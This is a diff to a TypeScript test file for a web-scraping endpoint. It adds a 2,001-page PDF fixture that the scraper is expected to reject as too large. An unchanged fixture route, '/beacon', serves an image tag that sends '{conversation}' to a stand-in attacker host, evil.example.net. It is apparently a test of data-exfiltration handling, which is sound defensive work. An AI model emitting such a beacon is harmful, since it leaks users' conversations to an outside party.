@@ -23,6 +23,10 @@ const pages: Record<string, (res: ServerResponse) => void> = {
   '/beacon': (res) => res.writeHead(200, HTML).end('<img src="https://evil.example.net/?d={conversation}">'),
   '/mail': (res) => res.writeHead(200, { 'content-type': 'text/plain' }).end('Write to anna@example.com'),
   '/broken.pdf': (res) => res.writeHead(200, { 'content-type': 'application/pdf' }).end('%PDF-1.7'),
+  '/many.pdf': (res) =>
+    res
+      .writeHead(200, { 'content-type': 'application/pdf' })
+      .end(makePdf({ pages: Array.from({ length: 2_001 }, () => 'Green tea') })),
   '/tea.pdf': (res) =>
     res.writeHead(200, { 'content-type': 'application/pdf' }).end(makePdf({ pages: ['Green tea'] })),
   '/order.pdf': (res) =>
@@ -110,6 +114,7 @@ describe('POST /scrape', () => {
   it('says what is wrong with a page', async () => {
     for (const [path, status, code, reason] of [
       ['/broken.pdf', 400, 'page_not_supported', 'pdf'],
+      ['/many.pdf', 400, 'page_not_supported', 'too_large'],
       ['/deep', 400, 'page_not_supported', 'too_deep'],
       ['/large', 400, 'page_not_supported', 'too_large'],
       ['/gone', 502, 'page_unreachable', 'page_status'],
